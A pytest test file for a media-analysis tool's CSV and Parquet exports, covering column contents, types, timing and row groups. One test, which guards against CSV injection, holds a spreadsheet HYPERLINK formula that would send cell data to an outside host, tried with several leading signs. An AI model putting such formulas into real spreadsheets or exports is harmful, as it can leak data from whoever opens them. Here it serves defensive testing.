import csv
import io
from dataclasses import replace
from fractions import Fraction
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from playbill.core.analysis import Analysis
from playbill.core.metadata import FrameMetadata
from playbill.core.people import Person
from playbill.exports.formats import export_chunks
from playbill.exports.parquet import ROW_GROUP
from tests.support.analyses import ADA, analysis_of, person
from tests.support.exported import (
    ODD_NAMES,
    awkward,
    clip_analysis,
    empty,
    exported,
    ntsc_clip,
    picture,
    plain,
    seen,
    times_of,
    varying_clip,
)


def csv_rows(analysis: Analysis, name: str) -> list[dict[str, str]]:
    text = exported(analysis, name).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def parquet(analysis: Analysis, name: str) -> pa.Table:
    return pq.read_table(io.BytesIO(exported(analysis, name)))


def test_a_row_is_an_appearance() -> None:
    ada, tv, _, somebody = csv_rows(plain(), "csv")

    assert (ada["person_name"], ada["start_s"], ada["end_s"]) == ("Ada Lovelace", "0.0", "2.002")
    assert (ada["person_id"], ada["kind"], ada["class_id"]) == (ADA.id, "person", "0")
    assert (ada["frames"], ada["score"]) == ("2", "0.8")
    assert (ada["start_timecode"], ada["end_timecode"]) == ("00:00:00;00", "00:00:02;00")
    assert (tv["label"], tv["class_id"], tv["person_name"]) == ("tv", "62", "")
    assert (somebody["kind"], somebody["person_name"]) == ("person", "")


def test_every_row_says_where_it_comes_from() -> None:
    for name in ("csv", "csv-objects"):
        for row in csv_rows(plain(), name):
            assert row["media_name"] == "news.mp4"
            assert row["media_sha256"] == "ab" * 32
            assert (row["frame_rate"], row["sample_every"]) == ("30000/1001", "30")
            assert row["run_id"] == "run-1"


def test_a_row_is_an_object_of_a_frame() -> None:
    rows = csv_rows(plain(), "csv-objects")
    ada, tv = rows[:2]

    assert [row["frame_from_0"] for row in rows] == ["0", "0", "30", "30", "60"]
    assert [row["time_s"] for row in rows] == ["0.0", "0.0", "1.001", "1.001", "2.002"]
    assert [ada[side] for side in ("left", "top", "width", "height")] == ["10", "20", "100", "200"]
    face = [ada[f"face_{side}"] for side in ("left", "top", "width", "height", "score")]
    assert face == ["40", "30", "40", "50", "0.99"]
    assert (ada["person_name"], ada["person_score"], ada["score"]) == ("Ada Lovelace", "0.8", "0.9")
    assert (tv["label"], tv["face_left"], tv["person_name"]) == ("tv", "", "")


@pytest.mark.parametrize("name", ["parquet", "parquet-objects"])
def test_parquet_has_types_and_says_what_numbers_mean(name: str) -> None:
    table = parquet(plain(), name)

    assert table.schema.field("sample_every").type == pa.int64()
    assert table.schema.field("score").type == pa.float64()
    assert table.schema.field("person_name").type == pa.string()
    assert b"from 0" in table.schema.metadata[b"frame numbers"]
    assert (
        pq.ParquetFile(io.BytesIO(exported(plain(), name)))
        .metadata.row_group(0)
        .column(0)
        .compression
        == "ZSTD"
    )


@pytest.mark.parametrize("kind", ["", "-objects"])
@pytest.mark.parametrize("make", [plain, awkward, empty, picture])
def test_both_tables_say_the_same(make: object, kind: str) -> None:
    analysis = make()  # type: ignore[operator]
    rows = csv_rows(analysis, f"csv{kind}")
    table = parquet(analysis, f"parquet{kind}").to_pylist()

    assert len(rows) == len(table)
    for written, typed in zip(rows, table, strict=True):
        plain_text = {key: value.removeprefix("'") for key, value in written.items()}
        assert plain_text == {key: "" if v is None else str(v) for key, v in typed.items()}


def test_names_come_back_letter_by_letter() -> None:
    names = [row["person_name"] for row in csv_rows(awkward(), "csv")]
    typed = parquet(awkward(), "parquet").column("person_name").to_pylist()

    assert typed == list(ODD_NAMES)
    assert [name.replace("'=", "=") for name in names] == list(ODD_NAMES)


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
@pytest.mark.parametrize("kind", ["", "-objects"])
def test_no_name_is_computed_by_a_spreadsheet(kind: str, sign: str) -> None:
    """OWASP's rule against CSV injection."""
    evil = f'{sign}HYPERLINK("https://example.org/?"&A1,"Ada")'
    made = analysis_of(
        FrameMetadata(0, Fraction(0), (person(Person("x", evil)),)),
        appearances=(seen(Person("x", evil), Fraction(0), Fraction(1)),),
    )
    (row,) = csv_rows(replace(made, media=replace(made.media, name=evil)), f"csv{kind}")

    assert row["person_name"] == row["media_name"] == f"'{evil}"


def test_a_medium_without_appearances_is_a_head_without_rows() -> None:
    assert csv_rows(empty(), "csv") == []
    assert exported(empty(), "csv").startswith(b"media_id,media_name,media_sha256,frame_rate,")
    assert parquet(empty(), "parquet").num_rows == 0


def test_a_picture_has_objects_and_no_times() -> None:
    ada, tv = csv_rows(picture(), "csv-objects")

    assert csv_rows(picture(), "csv") == []
    assert (ada["frame_rate"], ada["frame_from_0"], tv["label"]) == ("", "0", "tv")


@pytest.mark.parametrize("make", [varying_clip, ntsc_clip])
def test_times_are_those_of_the_file(make: object, tmp_path: Path) -> None:
    path: Path = make(tmp_path)  # type: ignore[operator]
    times = times_of(path)
    analysis = clip_analysis(path, {ADA: (7, 50)})

    (row,) = csv_rows(analysis, "csv")
    assert float(row["start_s"]) == pytest.approx(float(times[7]), abs=5e-7)
    assert float(row["end_s"]) == pytest.approx(float(times[50]), abs=5e-7)
    for found in csv_rows(analysis, "csv-objects"):
        index = int(found["frame_from_0"])
        assert float(found["time_s"]) == pytest.approx(float(times[index]), abs=5e-7)


def test_many_media_are_one_table_in_row_groups() -> None:
    one = plain()
    many = (replace(one, media=replace(one.media, name=f"{i}.mp4")) for i in range(10_000))
    read = 0
    chunks = []
    for chunk in export_chunks(many, "parquet"):
        chunks.append(chunk)
        read += 1
    file = pq.ParquetFile(io.BytesIO(b"".join(chunks)))

    assert file.metadata.num_rows == 40_000
    assert file.metadata.num_row_groups == -(-40_000 // ROW_GROUP)
    assert read == file.metadata.num_row_groups + 1
    names = pq.read_table(io.BytesIO(b"".join(chunks))).column("media_name").unique()
    assert len(names) == 10_000
